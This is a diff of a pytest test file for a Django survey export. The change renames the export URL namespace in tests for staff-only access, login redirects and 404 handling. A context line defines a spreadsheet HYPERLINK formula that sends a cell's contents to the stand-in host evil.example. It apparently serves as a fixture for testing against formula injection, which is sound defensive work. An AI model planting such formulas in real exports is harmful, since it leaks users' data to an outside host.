@@ -19,7 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
 
 
 def download(client, survey, fmt):
-    response = client.get(reverse("survey-texts:export", args=[survey.pk, fmt]))
+    response = client.get(reverse("surveys:export", args=[survey.pk, fmt]))
     assert response.status_code == 200
     content = b"".join(response.streaming_content) if response.streaming else response.content
     return response, content
@@ -83,7 +83,7 @@ def test_no_xlsx_cell_is_a_formula(staff, survey):
 def test_only_staff_export(request, client_for, survey, who, location):
     client = client_for(request.getfixturevalue(who))
 
-    response = client.get(reverse("survey-texts:export", args=[survey.pk, "csv"]))
+    response = client.get(reverse("surveys:export", args=[survey.pk, "csv"]))
 
     if location is None:
         assert response.status_code == 200
@@ -92,15 +92,15 @@ def test_only_staff_export(request, client_for, survey, who, location):
 
 
 def test_anonymous_people_are_sent_to_the_login(client, survey):
-    response = client.get(reverse("survey-texts:export", args=[survey.pk, "csv"]))
+    response = client.get(reverse("surveys:export", args=[survey.pk, "csv"]))
 
     assert response.status_code == 302 and "login" in response["Location"]
 
 
 @pytest.mark.parametrize("args", [(0, "csv"), (99999999, "csv"), (2**63, "xlsx")])
 def test_unknown_surveys_are_404(staff, args):
-    assert staff.get(reverse("survey-texts:export", args=args)).status_code == 404
+    assert staff.get(reverse("surveys:export", args=args)).status_code == 404
 
 
 def test_an_unknown_format_is_404(staff, survey):
-    assert staff.get(reverse("survey-texts:export", args=[survey.pk, "pdf"])).status_code == 404
+    assert staff.get(reverse("surveys:export", args=[survey.pk, "pdf"])).status_code == 404
